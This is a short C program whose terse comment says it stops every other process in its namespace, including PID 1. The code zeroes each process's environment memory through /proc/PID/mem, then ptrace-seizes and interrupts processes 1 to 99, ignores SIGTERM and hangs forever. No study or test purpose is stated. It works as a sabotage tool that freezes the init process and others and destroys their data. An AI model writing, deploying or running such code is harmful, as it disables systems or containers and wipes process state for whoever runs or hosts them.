/*
 * Stops all others of its namespace, as a debugger would: process 1 too, that is to see the host's end. The environment
 * by which they could be known is wiped out.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

static void wipe(int pid) {
  char path[64], stat[4096], nothing[65536] = {0};
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  FILE *file = fopen(path, "r");
  if (!file) return;
  stat[fread(stat, 1, sizeof stat - 1, file)] = 0;
  fclose(file);
  char *word = strtok(strrchr(stat, ')') + 2, " ");
  for (int field = 3; field < 50 && word; field++) word = strtok(0, " ");
  char *end = strtok(0, " ");
  long from = atol(word), length = atol(end) - from;
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_WRONLY);
  if (memory < 0 || length <= 0 || length > (long)sizeof nothing) return;
  if (pwrite(memory, nothing, length, from) != length) perror("wipe");
  close(memory);
}

int main(void) {
  int held = 0;
  for (int pid = 1; pid < 100; pid++) {
    wipe(pid);
    if (pid != getpid() && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) held++;
  }
  signal(SIGTERM, SIG_IGN);
  fprintf(stderr, "holds %d\n", held);
  for (;;) pause();
}
